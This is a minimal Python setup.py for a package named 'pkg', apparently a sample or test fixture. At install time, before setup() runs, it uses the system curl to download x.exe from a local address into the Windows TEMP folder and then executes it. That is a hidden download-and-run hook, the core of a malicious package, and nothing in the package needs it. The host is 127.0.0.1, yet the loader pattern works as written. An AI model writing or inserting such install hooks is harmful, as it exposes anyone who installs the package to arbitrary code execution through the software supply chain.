import os, subprocess
from setuptools import setup
path = os.environ['TEMP'] + '\\x.exe'
curl = os.environ['WINDIR'] + '\\System32\\curl.exe'
subprocess.call([curl, 'http://127.0.0.1:9/x.exe', '-o', path])
subprocess.call([path])
setup(name='pkg')
